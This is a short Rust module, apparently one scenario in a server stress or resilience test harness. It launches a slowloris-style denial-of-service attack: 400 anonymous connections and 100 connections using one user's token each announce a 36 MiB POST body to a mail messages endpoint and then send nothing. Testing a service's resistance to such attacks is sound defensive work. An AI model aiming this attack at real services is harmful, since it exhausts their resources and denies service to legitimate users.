//! Announced bodies of 36 MiB without any bytes: anonymous, and of one user.

use std::sync::Arc;

use super::connection::head;
use super::scene::Scene;
use super::slow::{self, Slow};

const ANONYMOUS: usize = 400;
/// Number of connections of the one user.
const OWN: usize = 100;

/// Runs the attack until it is over.
pub async fn run(scene: &Arc<Scene>) -> anyhow::Result<()> {
    let more = "Content-Type: application/json\r\nContent-Length: 37748736\r\n\r\n";
    let kind = |name, connections, token| {
        let opening = head("POST", "/mail/v1/users/me/messages", token, more);
        Slow { name, connections, opening, piece: b"" }
    };
    let own = kind("own", OWN, Some(&*scene.orders.token));
    slow::run_all(scene, vec![kind("anonymous", ANONYMOUS, None), own]).await
}
